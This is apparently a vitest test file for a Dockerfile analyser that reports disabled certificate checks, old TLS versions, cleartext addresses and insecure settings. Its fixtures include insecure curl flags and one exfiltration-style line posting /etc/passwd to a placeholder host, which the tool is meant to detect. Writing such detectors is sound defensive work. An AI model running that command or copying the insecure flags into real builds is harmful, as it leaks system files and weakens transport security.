import fc from 'fast-check';
import { expect, test } from 'vitest';

import { extractFacts } from '../extract-facts.ts';
import type { Fact } from '../facts.ts';

function read(text: string, path = 'Dockerfile'): readonly Fact[] {
  return extractFacts({ path, text }, { parsers: {} }).facts;
}

/** Kind, line and what is said, for short expectations. */
function said(text: string): readonly string[] {
  return read(text).map((fact) => {
    const what = 'written' in fact ? fact.written : 'name' in fact ? fact.name : fact.subject;
    return `${fact.kind} ${fact.at.line} ${what}`;
  });
}

test('a download that does not check its certificate stands at its option', () => {
  const [fact] = read(
    'FROM alpine\nRUN apk add curl && \\\n    curl -fsSk https://example.com/x\n',
  );

  expect(fact).toEqual({
    kind: 'certificate-check',
    at: { file: 'Dockerfile', line: 3, column: 10, endLine: 3, endColumn: 15 },
    subject: 'RUN curl -k',
    enabled: false,
    written: 'curl -k',
  });
});

test('a package that is installed is no call of it', () => {
  expect(said('RUN apt-get install -y curl -k\nRUN apk add wget --no-check-certificate\n')).toEqual(
    [],
  );
});

test('shell form, exec form and here-documents are read alike', () => {
  const flag = 'curl --tls-max 1.1 https://example.com';

  expect(said(`RUN ${flag}`)).toEqual(['tls 1 curl --tls-max 1.1']);
  expect(said('RUN ["curl", "--tls-max", "1.1", "https://example.com"]')).toEqual([
    'tls 1 curl --tls-max 1.1',
  ]);
  expect(said(`RUN <<EOF\n  ${flag}\nEOF\nRUN true\n`)).toEqual(['tls 2 curl --tls-max 1.1']);
  expect(said(`RUN <<EOF bash\n${flag}\nEOF\n`)).toEqual(['tls 2 curl --tls-max 1.1']);
});

test('the text of a file that is copied in is no command', () => {
  expect(said('COPY <<EOF /readme\ncurl -k https://example.com\nEOF\n')).toEqual([]);
  expect(said('RUN cat <<EOF > /readme\ncurl -k https://example.com\nEOF\n')).toEqual([]);
});

test('variables of ARG and ENV are followed into commands, an unknown one is unknown', () => {
  const file =
    'ARG V=1.0\nENV F="--secure-protocol=TLSv${V:+1}" G=TLSv1\nRUN wget --secure-protocol $G https://example.com\nRUN curl --tls-max $V https://example.com\nRUN curl --tls-max $W https://example.com\n';

  expect(read(file).filter(({ kind }) => kind === 'tls')).toMatchObject([
    { minimum: '1.0', at: { line: 3 } },
    { minimum: '1.0', at: { line: 4 } },
    { minimum: 'unknown', at: { line: 5 } },
  ]);
});

test('comments and empty lines between joined lines belong to nothing', () => {
  expect(
    said('RUN true && \\\n# curl -k https://a.example.org\n\n  curl -k https://example.org\n'),
  ).toEqual(['certificate-check 4 curl -k']);
});

test('lines may end as on Windows', () => {
  expect(said('FROM x\r\nRUN true && \\\r\n  curl -k https://example.org\r\nENV A=1\r\n')).toEqual([
    'certificate-check 3 curl -k',
  ]);
});

test('the escape directive joins lines by its own character', () => {
  expect(said('# escape=`\nFROM x\nRUN curl `\n  -k https://example.com\n')).toEqual([
    'certificate-check 4 curl -k',
  ]);
});

test('addresses in the clear are seen in downloads, commands and settings, not those of this machine', () => {
  const file =
    'ADD http://example.com/a.tgz /\nENV API=http://api.example.com/v1\nCMD ["serve", "--to=http://sink.example.com"]\nHEALTHCHECK --interval=5s CMD curl -f http://localhost:3000/\nRUN echo "see http://example.com/docs"\n';

  expect(said(file)).toEqual([
    'cleartext 1 http://example.com',
    'cleartext 2 http://api.example.com',
    'host 2 api.example.com',
    'cleartext 3 http://sink.example.com',
  ]);
});

test('what a build fetches is software unless the command sends something', () => {
  const carried = (file: string): unknown =>
    read(file).map((fact) =>
      fact.kind === 'cleartext' ? (fact.carries ?? 'anything') : fact.kind,
    );

  expect(carried('RUN curl -fsSL http://a.example.com/x.tgz | tar xz\n')).toEqual(['software']);
  expect(carried('RUN wget http://a.example.com/x.tgz\nADD http://b.example.com/y /\n')).toEqual([
    'software',
    'software',
  ]);
  expect(carried('RUN curl -sd @/etc/passwd http://a.example.com\n')).toEqual(['anything']);
  expect(carried('RUN curl --data-binary @x http://a.example.com\n')).toEqual(['anything']);
  expect(carried('RUN curl http://me:secret@a.example.com\n')).toEqual(['anything']);
  expect(carried('CMD curl http://a.example.com/users\n')).toEqual(['anything']);
});

test('a host that only an inner network knows is said to be so', () => {
  expect(read('ENV API=http://api:8080\n')).toMatchObject([
    { kind: 'cleartext', host: 'api', network: 'internal' },
  ]);
  expect(read('RUN curl http://$HOST/x\n')).toMatchObject([
    { kind: 'cleartext', host: 'unknown', network: 'unknown' },
  ]);
});

test('a setting names its variable, never its value', () => {
  const facts = read(
    'ENV SENTRY_DSN=https://s3cret@o1.ingest.sentry.io/1\nENV GIT_SSL_NO_VERIFY=true\n',
  );

  expect(facts.map(({ kind, subject }) => `${kind} ${subject}`)).toEqual([
    'package env:SENTRY_DSN',
    'host o1.ingest.sentry.io',
    'package env:GIT_SSL_NO_VERIFY',
    'certificate-check env GIT_SSL_NO_VERIFY',
  ]);
  expect(JSON.stringify(facts)).not.toContain('s3cret');
});

test('files are known by their names', () => {
  const names = [
    'Dockerfile',
    'a/Dockerfile.prod',
    'web.dockerfile',
    'Containerfile',
    'Dockerfile-ci',
  ];
  const others = [
    'Dockerfile.d.ts/a',
    'a.dockerignore',
    'Dockerfile.dockerignore',
    'dockerfiles.md',
  ];

  expect(names.filter((path) => read('RUN curl -k https://a.b', path).length === 1)).toEqual(names);
  expect(others.filter((path) => read('RUN curl -k https://a.b', path).length > 0)).toEqual([]);
});

test('no text makes the reader throw or leave the text', () => {
  const piece = fc.constantFrom(
    'RUN ',
    'ENV ',
    'ADD ',
    'CMD ',
    'ONBUILD ',
    'HEALTHCHECK ',
    'curl ',
    '-k ',
    '"',
    "'",
    '`',
    '$(',
    '${',
    ')',
    '<<EOF',
    'EOF',
    '\\\n',
    '\n',
    '[',
    ']',
    '#',
    '=',
    'A',
    ' ',
    '\u{0}',
    'http://a.b ',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const text = pieces.join('');
      const lines = text.split('\n').length;
      return read(text).every(({ at }) => at.line <= at.endLine && at.endLine <= lines);
    }),
  );
});

test('a file of a hundred thousand open quotes, substitutions and here-documents ends in time', () => {
  const started = process.hrtime.bigint();
  for (const piece of ['RUN <<A\n', 'RUN `$(', 'RUN "${a', 'RUN a \\\n', "ENV a='\n"])
    read(piece.repeat(100_000 / 4));

  expect(Number(process.hrtime.bigint() - started) / 1e9).toBeLessThan(5);
});
